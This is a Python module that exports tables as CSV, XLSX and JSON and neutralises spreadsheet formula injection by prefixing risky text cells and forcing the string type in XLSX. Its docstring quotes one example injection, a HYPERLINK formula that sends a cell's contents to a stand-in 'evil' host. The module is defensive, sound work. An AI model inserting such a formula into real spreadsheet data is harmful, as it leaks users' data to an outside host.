"""Tables as CSV, XLSX and JSON bytes, safe to open in a spreadsheet.

Spreadsheet formula injection (OWASP "CSV Injection"): a text cell beginning with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return may run as a formula when the file is
opened in Excel or LibreOffice, e.g. a comment ``=HYPERLINK("http://evil/?"&A1, "Click")``.
Every *text* cell that begins so is prefixed with ``'`` in CSV and XLSX alike; numbers
stay numbers (a negative gap is the number -0.8, not text). In XLSX every text cell is
also written with the string type set explicitly, because openpyxl stores a string
starting with ``=`` as a formula.
"""

from __future__ import annotations

import csv
import io
import json
import math
from collections.abc import Sequence
from datetime import UTC, date, datetime

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

from cxalign.exports.tables import Cell, Table

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_MIMETYPE = "text/csv"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
JSON_MIMETYPE = "application/json"
XLSX_MAX_TEXT = 32_767  # Excel's limit for one cell
SHEET_NAME_MAX = 31


def neutralise(text: str) -> str:
    """Text that no spreadsheet will run as a formula: ``'`` before a trigger character."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _utc_naive(value: datetime) -> datetime:
    return value.astimezone(UTC).replace(tzinfo=None) if value.tzinfo else value


def csv_cell(value: Cell) -> str:
    """One cell as CSV text: empty for no value, ISO 8601 for times (UTC, ``Z``)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return repr(value) if math.isfinite(value) else ""
    if isinstance(value, datetime):
        return _utc_naive(value).isoformat() + "Z"
    if isinstance(value, date):
        return value.isoformat()
    return neutralise(str(value))


def write_csv(table: Table) -> bytes:
    """UTF-8 with a byte-order mark (so Excel reads accents right), one header row."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_cell(name) for name in table.columns])
    for row in table.rows:
        writer.writerow([csv_cell(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def _text_cell(sheet, text: str, *, bold: bool = False) -> WriteOnlyCell:
    # XML 1.0 cannot hold most control characters; openpyxl would refuse the file.
    text = neutralise(ILLEGAL_CHARACTERS_RE.sub("\ufffd", text))[:XLSX_MAX_TEXT]
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # never a formula, whatever the text
    if bold:
        cell.font = Font(bold=True)
    return cell


def _xlsx_cell(sheet, value: Cell):
    if value is None:
        return None
    if isinstance(value, bool):
        return value
    if isinstance(value, int | float):
        return value if math.isfinite(value) else None
    if isinstance(value, datetime):
        cell = WriteOnlyCell(sheet, value=_utc_naive(value))
        cell.number_format = "yyyy-mm-dd hh:mm:ss"
        return cell
    if isinstance(value, date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "yyyy-mm-dd"
        return cell
    return _text_cell(sheet, str(value))


def _sheet_name(title: str, taken: set[str]) -> str:
    base = "".join(c for c in title if c not in "[]:*?/\\")[:SHEET_NAME_MAX] or "Sheet"
    name, n = base, 2
    while name.lower() in taken:
        suffix = f" ({n})"
        name, n = base[: SHEET_NAME_MAX - len(suffix)] + suffix, n + 1
    taken.add(name.lower())
    return name


def write_xlsx(tables: Sequence[Table], *, widths: dict[str, Sequence[int]] | None = None) -> bytes:
    """One sheet per table, header row bold and frozen. Written in openpyxl's streaming
    mode so that memory stays flat for large surveys."""
    workbook = Workbook(write_only=True)
    taken: set[str] = set()
    for table in tables:
        sheet = workbook.create_sheet(_sheet_name(table.title, taken))
        sheet.freeze_panes = "A2"
        for index, width in enumerate((widths or {}).get(table.title, ()), start=1):
            sheet.column_dimensions[_column_letter(index)].width = width
        sheet.append([_text_cell(sheet, name, bold=True) for name in table.columns])
        for row in table.rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _column_letter(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index)


def write_json(document: dict) -> bytes:
    """Readable, UTF-8 JSON. No neutralising here: JSON is read by programs, not Excel."""
    return (json.dumps(document, indent=2, ensure_ascii=False) + "\n").encode("utf-8")
